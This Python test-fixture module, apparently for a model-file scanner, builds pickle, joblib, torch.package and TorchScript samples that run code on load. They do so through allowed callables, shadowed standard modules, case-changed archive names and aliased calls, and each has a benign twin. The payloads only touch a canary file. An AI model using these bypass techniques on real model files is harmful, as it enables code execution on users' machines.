"""Samples of what a load does beyond the names a pickle imports (issue 34).

Hostile builders, `builder(path, canary) -> path`, each with the loader that runs its payload
(`HOSTILE`): callables that an allowed function calls (its argument positions in
`calls.CALLS_ARGUMENTS`), and torch.package archives whose pickle names a module the package
interns. Benign builders, `builder(path) -> path` (`BENIGN`): a scikit-learn pipeline and NumPy
arrays saved with joblib.dump, Lightning-style checkpoints whose hyper-parameters are an
argparse Namespace or omegaconf containers. Heavy imports stay inside the builders.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from factories import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    OBJ,
    PROTO2,
    PROTO4,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    _rewrite_zip,
    _torch_zip_bytes,
    _write,
    p_binget,
    p_binput,
    p_global,
    p_inst,
    p_short_unicode,
    p_string,
    p_unicode,
    small_state_dict,
)

NONE = b"N"
FROM_TYPE = ("torch._tensor", "_rebuild_from_type_v2")


def _from_type(func: bytes, *args: bytes) -> bytes:
    """`_rebuild_from_type_v2(func, torch.Tensor, (args...), {})`: it calls func(*args)."""
    return (p_global(*FROM_TYPE) + MARK + func + p_global("torch", "Tensor")
            + MARK + b"".join(args) + TUPLE + EMPTY_DICT + TUPLE + REDUCE)


# ---------------------------------------------------------------------------------------------
# Calls an allowed function makes with what it is handed
# ---------------------------------------------------------------------------------------------


def from_type_gzip_in_torch_zip(path: Path, canary: Path) -> Path:
    """A torch zip whose data.pkl hands gzip.GzipFile(canary, 'wb') to _rebuild_from_type_v2."""
    payload = PROTO2 + _from_type(p_global("gzip", "GzipFile"), p_unicode(str(canary)),
                                  p_unicode("wb")) + STOP
    src = _torch_zip_bytes(Path(path).parent)
    return _write(path, _rewrite_zip(src, {"/data.pkl": payload}))


def from_type_subprocess_handler(path: Path, canary: Path) -> Path:
    """torch's own elastic SubprocessHandler, run through _rebuild_from_type_v2: `touch CANARY`."""
    handler = p_global("torch.distributed.elastic.multiprocessing.subprocess_handler."
                       "subprocess_handler", "SubprocessHandler")
    args = (p_unicode("touch"), MARK + p_unicode(str(canary)) + TUPLE, EMPTY_DICT, NONE, NONE,
            b"K\x00", NONE)
    return _write(path, PROTO2 + _from_type(handler, *args) + STOP)


def from_type_memoised_stack_global(path: Path, canary: Path) -> Path:
    """Protocol 4: lzma.LZMAFile built by STACK_GLOBAL, stored in the memo and fetched back
    (BINGET) as the callable _rebuild_from_type_v2 is handed."""
    lzma_file = p_short_unicode("lzma") + p_short_unicode("LZMAFile") + STACK_GLOBAL
    data = (PROTO4 + lzma_file + p_binput(7) + b"0"  # stored, popped: only the memo holds it
            + p_short_unicode(FROM_TYPE[0]) + p_short_unicode(FROM_TYPE[1]) + STACK_GLOBAL
            + MARK + p_binget(7) + p_short_unicode("torch") + p_short_unicode("Tensor")
            + STACK_GLOBAL + MARK + p_unicode(str(canary)) + p_unicode("w") + TUPLE
            + EMPTY_DICT + TUPLE + REDUCE + STOP)
    return _write(path, data)


def from_type_obj_bz2(path: Path, canary: Path) -> Path:
    """OBJ (not REDUCE) calls _rebuild_from_type_v2, which calls bz2.BZ2File(canary, 'w')."""
    data = (PROTO2 + MARK + p_global(*FROM_TYPE) + p_global("bz2", "BZ2File")
            + p_global("torch", "Tensor") + MARK + p_unicode(str(canary)) + p_unicode("w")
            + TUPLE + EMPTY_DICT + OBJ + STOP)
    return _write(path, data)


def reconstructor_mbox(path: Path, canary: Path) -> Path:
    """copyreg._reconstructor(mailbox.mbox, mailbox.mbox, CANARY) runs mbox.__init__, which
    creates the mailbox file."""
    data = (PROTO2 + p_global("copyreg", "_reconstructor") + MARK + p_global("mailbox", "mbox")
            + p_global("mailbox", "mbox") + p_unicode(str(canary)) + TUPLE + REDUCE + STOP)
    return _write(path, data)


def reconstructor_maildir_inst(path: Path, canary: Path) -> Path:
    """Protocol 0 INST of copyreg._reconstructor with mailbox.Maildir as its base: the
    Maildir folder is created."""
    data = (MARK + p_global("mailbox", "Maildir") + p_global("mailbox", "Maildir")
            + p_string(str(canary)) + p_inst("copyreg", "_reconstructor") + STOP)
    return _write(path, data)


def from_type_forwards_reconstructor(path: Path, canary: Path) -> Path:
    """_rebuild_from_type_v2 calls func(*args): with copyreg._reconstructor as func, the args
    it forwards make _reconstructor run mailbox.mbox.__init__(CANARY), which creates the file."""
    data = (PROTO2 + p_global("torch._tensor", "_rebuild_from_type_v2") + MARK
            + p_global("copyreg", "_reconstructor") + p_global("collections", "OrderedDict")
            + MARK + p_global("mailbox", "mbox") + p_global("mailbox", "mbox")
            + p_unicode(str(canary)) + TUPLE + NONE + TUPLE + REDUCE + STOP)
    return _write(path, data)


def from_type_state_stores_setstate(path: Path, canary: Path) -> Path:
    """_rebuild_from_type_v2's state is set on the object it makes, name by name
    (torch._utils._set_obj_state): a stored __setstate__ is what the next BUILD calls, here
    mailbox.mbox(CANARY)."""
    data = (PROTO2 + p_global("torch._tensor", "_rebuild_from_type_v2") + MARK
            + p_global("collections", "OrderedDict") + p_global("collections", "OrderedDict")
            + EMPTY_TUPLE + EMPTY_DICT + p_unicode("__setstate__") + p_global("mailbox", "mbox")
            + SETITEM + TUPLE + REDUCE + p_unicode(str(canary)) + BUILD + STOP)
    return _write(path, data)


def numpy_generator_ctor_mbox(path: Path, canary: Path) -> Path:
    """NumPy's own Generator unpickling helper calls its second argument with its first:
    __generator_ctor(CANARY, mailbox.mbox) creates the mailbox file before Generator refuses
    what it got."""
    data = (PROTO2 + p_global("numpy.random._pickle", "__generator_ctor") + MARK
            + p_unicode(str(canary)) + p_global("mailbox", "mbox") + TUPLE + REDUCE + STOP)
    return _write(path, data)


# ---------------------------------------------------------------------------------------------
# joblib: what its unpickler reads after a NumpyArrayWrapper
# ---------------------------------------------------------------------------------------------


class _Runs:
    """Pickles as a call of `func(*args)` (a payload: `__reduce__`), wherever it is stored."""

    def __init__(self, func: Callable, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple:
        return self.func, self.args


def joblib_payload_after_array(path: Path, canary: Path) -> Path:
    """joblib.dump of a float array followed by a value whose pickle calls mailbox.mbox(CANARY):
    the call lies after the array's raw bytes, which joblib steps over."""
    import mailbox

    import joblib
    import numpy as np

    joblib.dump({"w": np.arange(64.0), "meta": _Runs(mailbox.mbox, str(canary))}, path)
    return Path(path)


def joblib_object_array_payload(path: Path, canary: Path) -> Path:
    """joblib.dump of an object array holding a value whose pickle calls os.system: joblib
    writes the object array as a nested pickle and reads it with a fresh unpickler."""
    import os

    import joblib
    import numpy as np

    values = np.empty(2, dtype=object)
    values[0], values[1] = "plain", _Runs(os.system, f"touch '{canary}'")
    joblib.dump({"values": values}, path)
    return Path(path)


def joblib_array_bytes_are_opcodes(path: Path, canary: Path) -> Path:
    """A wrapper without alignment padding (the joblib < 1.2 layout joblib still reads) whose
    array bytes are an os.system payload: joblib reads them as uint8 data, pickle.load as
    opcodes."""
    payload = p_global("os", "system") + MARK + p_unicode(f"touch '{canary}'") + TUPLE + REDUCE
    dtype = (p_global("numpy", "dtype") + MARK + p_unicode("u1") + b"\x89\x88" + TUPLE
             + REDUCE)
    state = (EMPTY_DICT + MARK + p_unicode("subclass") + p_global("numpy", "ndarray")
             + p_unicode("shape") + b"J" + len(payload).to_bytes(4, "little") + b"\x85"
             + p_unicode("order") + p_unicode("C") + p_unicode("dtype") + dtype
             + p_unicode("allow_mmap") + b"\x89" + b"u")
    data = (PROTO2 + p_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state
            + b"b" + payload + STOP)
    return _write(path, data)


# ---------------------------------------------------------------------------------------------
# torch.package: a pickle global that resolves to a module the package interns
# ---------------------------------------------------------------------------------------------


def _package(path: Path, module: str, source: str, pickle_bytes: bytes) -> Path:
    """A torch.package archive interning `module` (its `source`) with `pickle_bytes` as its
    `model/model.pkl` resource, written by torch's own PackageExporter."""
    from torch.package import PackageExporter

    with PackageExporter(str(path)) as exporter:
        exporter.save_source_string(module, source)
        exporter.save_binary("model", "model.pkl", pickle_bytes)
    return Path(path)


def _new(module: str, name: str, state: bytes = b"") -> bytes:
    """A pickle of `module.name` rebuilt as pickle rebuilds a class (NEWOBJ, BUILD)."""
    return PROTO2 + p_global(module, name) + b")\x81" + (state + b"b" if state else b"") + STOP


def package_shadows_collections(path: Path, canary: Path) -> Path:
    """The archive interns a module named `collections`, and its pickle names
    collections.OrderedDict: PackageImporter runs the archive's `collections` source."""
    source = f"open({str(canary)!r}, 'w').close()\n\n\nclass OrderedDict(dict):\n    pass\n"
    return _package(path, "collections", source, _new("collections", "OrderedDict"))


def package_shadows_copyreg(path: Path, canary: Path) -> Path:
    """The archive interns `copyreg`, and its pickle calls copyreg._reconstructor (allowed
    by name): the archive's copyreg, whose import runs a program, is what runs."""
    source = ("import subprocess\n"
              f"subprocess.run(['touch', {str(canary)!r}])\n\n\n"
              "def _reconstructor(cls, base, state):\n    return object.__new__(cls)\n")
    data = (PROTO2 + p_global("copyreg", "_reconstructor") + MARK + p_global("builtins", "object")
            + p_global("builtins", "object") + NONE + TUPLE + REDUCE + STOP)
    return _package(path, "copyreg", source, data)


def package_module_writes_at_import(path: Path, canary: Path) -> Path:
    """The package's own module (`mymodels`, no standard name) opens a file as it is imported."""
    source = (f"_LOG = open({str(canary)!r}, 'w')\n\n\n"
              "class Box(dict):\n    pass\n")
    return _package(path, "mymodels", source, _new("mymodels", "Box"))


def package_setstate_runs_program(path: Path, canary: Path) -> Path:
    """The package's own class runs a program from its __setstate__, which unpickling calls;
    the program is reached through an import alias."""
    source = ("import subprocess as sp\n\n\n"
              "class Box:\n"
              "    def __setstate__(self, state):\n"
              f"        sp.run(['touch', {str(canary)!r}])\n")
    return _package(path, "mymodels", source, _new("mymodels", "Box", EMPTY_DICT))


HOSTILE: dict[str, tuple[str, Callable[[Path, Path], Path], str]] = {
    # name: (the loader that runs it, builder, evidence a dangerous finding or import names)
    "from_type_gzip_in_torch_zip": ("torch", from_type_gzip_in_torch_zip,
                                    "_rebuild_from_type_v2 calls its argument func"),
    # torch.distributed.elastic is denied whole since round 56: the import is the evidence
    "from_type_subprocess_handler": ("pickle", from_type_subprocess_handler,
                                     "torch.distributed.elastic can run code"),
    "from_type_memoised_stack_global": ("torch", from_type_memoised_stack_global,
                                        "_rebuild_from_type_v2 calls its argument func"),
    "from_type_obj_bz2": ("pickle", from_type_obj_bz2,
                          "_rebuild_from_type_v2 calls its argument func"),
    "reconstructor_mbox": ("pickle", reconstructor_mbox, "constructs and initialises"),
    "reconstructor_maildir_inst": ("pickle", reconstructor_maildir_inst,
                                   "constructs and initialises"),
    "from_type_forwards_reconstructor": ("pickle", from_type_forwards_reconstructor,
                                         "constructs and initialises"),
    "from_type_state_stores_setstate": ("pickle", from_type_state_stores_setstate,
                                        "__setstate__ stored earlier"),
    "numpy_generator_ctor_mbox": ("pickle", numpy_generator_ctor_mbox,
                                  "__generator_ctor calls its argument bit_generator_ctor"),
    "joblib_payload_after_array": ("joblib", joblib_payload_after_array, "calls mailbox.mbox"),
    "joblib_object_array_payload": ("joblib", joblib_object_array_payload, "os.system"),
    "joblib_array_bytes_are_opcodes": ("pickle", joblib_array_bytes_are_opcodes, "os.system"),
    "package_shadows_collections": ("package", package_shadows_collections,
                                    "shadows the standard-library module collections"),
    "package_shadows_copyreg": ("package", package_shadows_copyreg,
                                "shadows the standard-library module copyreg"),
    "package_module_writes_at_import": ("package", package_module_writes_at_import,
                                        "builtins.open: can write files"),
    "package_setstate_runs_program": ("package", package_setstate_runs_program,
                                      "subprocess.run: can run code"),
}
"""Every hostile sample: name -> (loader, builder, evidence)."""

# The loader each sample targets, in a throwaway process; children it starts are waited for,
# so a payload that runs a program has finished when the process ends.
LOADER = r"""
import os, pickle, sys
kind, path = sys.argv[1], sys.argv[2]
try:
    if kind == "pickle":
        with open(path, "rb") as f:
            pickle.load(f)
    elif kind == "torch":
        import torch
        torch.load(path, weights_only=False)
    elif kind == "joblib":
        import joblib
        joblib.load(path)
    elif kind == "package":
        from torch.package import PackageImporter
        PackageImporter(path).load_pickle("model", "model.pkl")
except Exception as exc:
    print("loader raised", type(exc).__name__, str(exc)[:200])
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"""


# ---------------------------------------------------------------------------------------------
# Benign files of real tools
# ---------------------------------------------------------------------------------------------


def sklearn_pipeline_joblib(path: Path) -> Path:
    """A fitted scikit-learn pipeline (scaler + logistic regression) saved with joblib.dump."""
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.random.RandomState(0).randn(64, 5)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())])
    joblib.dump(pipe.fit(x, (x[:, 0] > 0).astype(int)), path)
    return Path(path)


def numpy_arrays_joblib(path: Path) -> Path:
    """NumPy arrays of several dtypes, orders and shapes (a 0-d one too) saved with joblib."""
    import joblib
    import numpy as np

    arrays = {"f8": np.arange(12.0).reshape(3, 4), "i2": np.arange(7, dtype=np.int16),
              "fortran": np.asfortranarray(np.ones((2, 3), dtype=np.float32)),
              "text": np.array(["ab", "cde"]), "scalar": np.array(3.5), "empty": np.zeros(0),
              "big_endian": np.arange(5, dtype=">i4"), "bools": np.array([True, False])}
    joblib.dump(arrays, path)
    return Path(path)


def numpy_arrays_joblib_compressed(path: Path) -> Path:
    """The same arrays as `numpy_arrays_joblib`, zlib-compressed by joblib.dump."""
    import joblib
    import numpy as np

    joblib.dump({"w": np.linspace(0, 1, 1000), "b": np.arange(10)}, path, compress=3)
    return Path(path)


def _lightning_style(path: Path, hyper_parameters: object) -> Path:
    import torch

    torch.save({"epoch": 3, "global_step": 120, "pytorch-lightning_version": "2.6.6",
                "state_dict": small_state_dict(), "hparams_name": "kwargs",
                "hyper_parameters": hyper_parameters}, path)
    return Path(path)


def lightning_namespace_hparams(path: Path) -> Path:
    """A Lightning-style checkpoint whose hyper-parameters are an argparse.Namespace."""
    import argparse

    return _lightning_style(path, argparse.Namespace(lr=0.01, layers=[4, 4], name="mlp"))


def lightning_omegaconf_hparams(path: Path) -> Path:
    """A Lightning-style checkpoint whose hyper-parameters are omegaconf DictConfig and
    ListConfig values (as Hydra-configured runs save them)."""
    from omegaconf import OmegaConf

    config = OmegaConf.create({"lr": 0.01, "layers": [4, 4], "optimizer": {"name": "adam",
                               "betas": [0.9, 0.999]}, "flag": True, "path": None})
    return _lightning_style(path, {"cfg": config, "extra": OmegaConf.create(["a", 1])})


def package_of_a_model(path: Path) -> Path:
    """A torch.package of a small model whose class the package interns (`tinynet`), the way
    PackageExporter saves one: source, pickle and tensor storages."""
    import importlib
    import sys
    import tempfile

    import torch
    from torch.package import PackageExporter

    source = ("import torch\n\n\nclass TinyNet(torch.nn.Module):\n"
              "    def __init__(self):\n        super().__init__()\n"
              "        self.lin = torch.nn.Linear(4, 2)\n\n"
              "    def forward(self, x):\n        return torch.relu(self.lin(x))\n")
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "tinynet.py").write_text(source)
        sys.path.insert(0, folder)
        try:
            model = importlib.import_module("tinynet").TinyNet()
            with PackageExporter(str(path)) as exporter:
                exporter.intern("tinynet")
                exporter.extern("torch.**")
                exporter.save_pickle("model", "model.pkl", model)
        finally:
            sys.path.remove(folder)
            sys.modules.pop("tinynet", None)
    del torch
    return Path(path)


def sklearn_models_joblib(path: Path) -> Path:
    """Fitted scikit-learn models whose pickles call compiled classes and NumPy's random
    helpers (a forest's trees, gradient boosting's loss and RNG, SGD's loss, a KD-tree and a
    ball tree with their distance metric, an MLP's RandomState), in one joblib.dump."""
    import joblib
    import numpy as np
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import SGDClassifier
    from sklearn.neighbors import KNeighborsClassifier, NearestNeighbors
    from sklearn.neural_network import MLPClassifier

    x = np.random.RandomState(0).randn(64, 4)
    y = (x[:, 0] > 0).astype(int)
    models = [RandomForestClassifier(n_estimators=2, random_state=0),
              HistGradientBoostingClassifier(max_iter=2), SGDClassifier(random_state=0),
              KNeighborsClassifier(algorithm="kd_tree"), MLPClassifier(max_iter=2)]
    fitted = [m.fit(x, y) for m in models] + [NearestNeighbors(algorithm="ball_tree").fit(x)]
    joblib.dump(fitted, path)
    return Path(path)


def numpy_generators_pickle(path: Path) -> Path:
    """NumPy's random generators of every bit generator, a RandomState, a SeedSequence and
    arrays at pickle protocol 5 (Python 3.14's default), as `pickle.dump` writes them."""
    import pickle

    import numpy as np

    rngs = [np.random.Generator(bits(1)) for bits in (
        np.random.PCG64, np.random.PCG64DXSM, np.random.MT19937, np.random.Philox,
        np.random.SFC64)]
    value = {"rngs": rngs, "legacy": np.random.RandomState(0), "seed": np.random.SeedSequence(1),
             "array": np.arange(6.0).reshape(2, 3), "scalar": np.float32(2.0)}
    path.write_bytes(pickle.dumps(value, protocol=5))
    return Path(path)


def grad_scaler_object(path: Path) -> Path:
    """A whole GradScaler object saved with torch.save (not its state_dict): its per-optimizer
    state is a defaultdict whose factory is torch's own `_refresh_per_optimizer_state`."""
    import torch

    torch.save({"scaler": torch.amp.GradScaler("cpu")}, path)
    return Path(path)


BENIGN: dict[str, Callable[[Path], Path]] = {
    "sklearn_pipeline_joblib": sklearn_pipeline_joblib,
    "sklearn_models_joblib": sklearn_models_joblib,
    "numpy_generators_pickle": numpy_generators_pickle,
    "grad_scaler_object": grad_scaler_object,
    "numpy_arrays_joblib": numpy_arrays_joblib,
    "numpy_arrays_joblib_compressed": numpy_arrays_joblib_compressed,
    "lightning_namespace_hparams": lightning_namespace_hparams,
    "lightning_omegaconf_hparams": lightning_omegaconf_hparams,
    "package_of_a_model": package_of_a_model,
}


# ---------------------------------------------------------------------------------------------
# The same load-time call in other spellings: a record name in other letter case (torch's zip
# reader finds records case-insensitively), a parenthesised operator, a star import, a method
# the unpickler runs unasked. Each hostile sample has a benign twin (`SPELLING_TWINS`).
# ---------------------------------------------------------------------------------------------

_SCRIPTED = '''
import torch


class Restores(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.zeros(2)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.w = state[0]
        self.training = state[1]
        print("MARKER")
'''


def _scripted(path: Path, statement: str, code_folder: str = "code") -> Path:
    """A TorchScript archive (torch.jit.save) whose scripted __setstate__, which torch.jit.load
    runs, holds `statement` in place of a print, its code folder spelled `code_folder`."""
    import importlib
    import io
    import sys
    import tempfile
    import zipfile

    import torch

    with tempfile.TemporaryDirectory() as folder:  # torch.jit.script reads the class's source
        (Path(folder) / "restores_model.py").write_text(_SCRIPTED)
        sys.path.insert(0, folder)
        try:
            saved = io.BytesIO()
            torch.jit.save(torch.jit.script(importlib.import_module(
                "restores_model").Restores()), saved)
        finally:
            sys.path.remove(folder)
            sys.modules.pop("restores_model", None)
    out = io.BytesIO()
    with zipfile.ZipFile(saved) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info.filename).replace(b'print("MARKER")', statement.encode())
            zout.writestr(info.filename.replace("/code/", f"/{code_folder}/"), data)
    return _write(path, out.getvalue())


def script_code_folder_upper_case(path: Path, canary: Path) -> Path:
    """A TorchScript archive whose code folder is `CODE/`: torch's reader opens it for `code/`."""
    return _scripted(path, f"torch.save(state[0], {str(canary)!r})", "CODE")


def script_code_folder_upper_case_twin(path: Path) -> Path:
    return _scripted(path, 'print("restored")', "CODE")


def script_parenthesised_save(path: Path, canary: Path) -> Path:
    """`(ops.aten).save(...)`: TorchScript compiles it as aten::save."""
    return _scripted(path, f"(ops.aten).save(state[0], {str(canary)!r})")


def script_parenthesised_save_twin(path: Path) -> Path:
    return _scripted(path, "self.w = (torch).zeros(2)")


def _renamed(path: Path, old: str, new: str) -> Path:
    """The zip at `path` with every member name's `old` spelled `new`."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info.filename.replace(old, new), zin.read(info.filename))
    return _write(path, out.getvalue())


def _package_extern_upper(path: Path, source: str) -> Path:
    _package(path, "mymodels", source, _new("mymodels", "Box"))
    return _renamed(path, "/.data/extern_modules", "/.data/EXTERN_MODULES")


def package_extern_modules_upper_case(path: Path, canary: Path) -> Path:
    """A torch.package whose `.data/extern_modules` is spelled `.data/EXTERN_MODULES`
    (PackageImporter reads it all the same); its module opens a file as it is imported."""
    return _package_extern_upper(path, f"open({str(canary)!r}, 'w').close()\n\n\n"
                                       "class Box(dict):\n    pass\n")


def package_extern_modules_upper_case_twin(path: Path) -> Path:
    return _package_extern_upper(path, "class Box(dict):\n    pass\n")


def package_star_import_system(path: Path, canary: Path) -> Path:
    """`from os import *`, then `system(...)` as the module is imported."""
    source = f"from os import *\n\nsystem('touch {canary}')\n\n\nclass Box(dict):\n    pass\n"
    return _package(path, "mymodels", source, _new("mymodels", "Box"))


def package_star_import_system_twin(path: Path) -> Path:
    source = "from os import *\n\nHERE = getcwd()\n\n\nclass Box(dict):\n    pass\n"
    return _package(path, "mymodels", source, _new("mymodels", "Box"))


# Store() (NEWOBJ), then SETITEMS of one item: the class's __setitem__ runs
_STORE = PROTO2 + p_global("mymodels", "Store") + b")\x81" + MARK + p_unicode("lr") + (
    b"K\x01u" + STOP)


def package_setitem_runs_program(path: Path, canary: Path) -> Path:
    """An interned dict subclass whose __setitem__, which SETITEMS runs, runs a program."""
    source = ("import os\n\n\nclass Store(dict):\n    def __setitem__(self, key, value):\n"
              f"        os.system('touch {canary}')\n        dict.__setitem__(self, key, value)\n")
    return _package(path, "mymodels", source, _STORE)


def package_del_runs_program(path: Path, canary: Path) -> Path:
    """An interned class whose __del__, which runs once the loaded object is dropped, runs a
    program."""
    source = ("import os\n\n\nclass Store(dict):\n    def __del__(self):\n"
              f"        os.system('touch {canary}')\n")
    return _package(path, "mymodels", source, _STORE)


def package_setitem_twin(path: Path) -> Path:
    source = ("class Store(dict):\n    def __setitem__(self, key, value):\n"
              "        dict.__setitem__(self, key, value)\n\n    def __del__(self):\n"
              "        self.clear()\n")
    return _package(path, "mymodels", source, _STORE)


HOSTILE.update({
    "script_code_folder_upper_case": ("torch", script_code_folder_upper_case, "aten::save"),
    "script_parenthesised_save": ("torch", script_parenthesised_save, "aten::save"),
    "package_extern_modules_upper_case": ("package", package_extern_modules_upper_case,
                                          "builtins.open: can write files"),
    "package_star_import_system": ("package", package_star_import_system, "os.system"),
    "package_setitem_runs_program": ("package", package_setitem_runs_program, "os.system"),
    "package_del_runs_program": ("package", package_del_runs_program, "os.system"),
})
SPELLING_TWINS: dict[str, Callable[[Path], Path]] = {
    "script_code_folder_upper_case_twin": script_code_folder_upper_case_twin,
    "script_parenthesised_save_twin": script_parenthesised_save_twin,
    "package_extern_modules_upper_case_twin": package_extern_modules_upper_case_twin,
    "package_star_import_system_twin": package_star_import_system_twin,
    "package_setitem_twin": package_setitem_twin,
}
"""The benign twins: each suspicious (code that runs at load, reaching nothing on the deny
list)."""
BENIGN.update(SPELLING_TWINS)


# ---------------------------------------------------------------------------------------------
# Members, methods and names a loader reaches that a fixed list misses: a tar member of a type
# flag tarfile does not know (it extracts it as a regular file), a TorchScript operator reached
# through a binding (a module's alias, getattr), a package's method reached through `self.`
# or a local name bound to a denied callable.
# ---------------------------------------------------------------------------------------------


def _legacy_tar(path: Path, data: bytes) -> Path:
    """A legacy torch tar whose `storages`, `tensors` and `pickle` members hold `data` with a
    type flag tarfile does not know (`Z`): tarfile.extract writes each as a regular file
    (`makeunknown`) and torch.load's legacy reading unpickles `storages`."""
    import io
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        meta = PROTO2 + EMPTY_DICT + STOP
        info = tarfile.TarInfo("meta")
        info.size = len(meta)
        tar.addfile(info, io.BytesIO(meta))
        for name in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(name)
            info.size, info.type = len(data), b"Z"
            tar.addfile(info, io.BytesIO(data))
    return _write(path, out.getvalue())


def tar_unknown_type_members(path: Path, canary: Path) -> Path:
    return _legacy_tar(path, PROTO2 + p_global("os", "system") + MARK
                       + p_unicode(f"touch {canary}") + TUPLE + REDUCE + STOP)


def tar_unknown_type_members_twin(path: Path) -> Path:
    return _legacy_tar(path, PROTO2 + EMPTY_DICT + STOP)


def script_autograd_save(path: Path, canary: Path) -> Path:
    """`torch.autograd.save(...)`: torch's BuiltinModule maps `autograd` back to aten."""
    return _scripted(path, f"torch.autograd.save(state[0], {str(canary)!r})")


def script_module_alias_save(path: Path, canary: Path) -> Path:
    """`t = torch` then `t.save(...)`: the compiler binds the module to a local name."""
    return _scripted(path, f"t = torch\n    t.save(state[0], {str(canary)!r})")


def script_getattr_pieces_save(path: Path, canary: Path) -> Path:
    """`getattr(ops.aten, "sa" "ve")(...)`: the compiler joins the string's pieces."""
    return _scripted(path, f'getattr(ops.aten, "sa" "ve")(state[0], {str(canary)!r})')


def script_module_alias_twin(path: Path) -> Path:
    return _scripted(path, "t = torch\n    self.w = getattr(t, \"zeros\")(2)")


def _package_restores(path: Path, restore: str) -> Path:
    """An interned class whose __setstate__ (which unpickling runs) calls `self._restore()`,
    whose body is `restore`; its `dump`, which nothing calls at load, runs a program."""
    source = ("import os\n\n\nclass Box:\n    def __setstate__(self, state):\n"
              "        self.__dict__.update(state)\n        self._restore()\n\n"
              f"    def _restore(self):\n        {restore}\n\n"
              "    def dump(self):\n        os.system('echo dump')\n")
    return _package(path, "mymodels", source, _new("mymodels", "Box", EMPTY_DICT))


def package_setstate_calls_method(path: Path, canary: Path) -> Path:
    """__setstate__ -> self._restore() -> os.system(...)."""
    return _package_restores(path, f"os.system('touch {canary}')")


def package_setstate_alias(path: Path, canary: Path) -> Path:
    """__setstate__ -> self._restore(), which binds os.system to a local name and calls it."""
    return _package_restores(path, f"run = os.system\n        run('touch {canary}')")


def package_setstate_calls_method_twin(path: Path) -> Path:
    return _package_restores(path, "run = os.path.join\n        self.where = run('a', 'b')")


_SCAN3_TWINS: dict[str, Callable[[Path], Path]] = {
    "package_setstate_calls_method_twin": package_setstate_calls_method_twin,
    "script_module_alias_twin": script_module_alias_twin,
    "tar_unknown_type_members_twin": tar_unknown_type_members_twin,
}
HOSTILE.update({
    "tar_unknown_type_members": ("torch", tar_unknown_type_members, "os.system"),
    "script_autograd_save": ("torch", script_autograd_save, "aten::save"),
    "script_module_alias_save": ("torch", script_module_alias_save, "aten::save"),
    "script_getattr_pieces_save": ("torch", script_getattr_pieces_save, "aten::save"),
    "package_setstate_calls_method": ("package", package_setstate_calls_method, "os.system"),
    "package_setstate_alias": ("package", package_setstate_alias, "os.system"),
})
SPELLING_TWINS.update(_SCAN3_TWINS)
BENIGN.update(_SCAN3_TWINS)
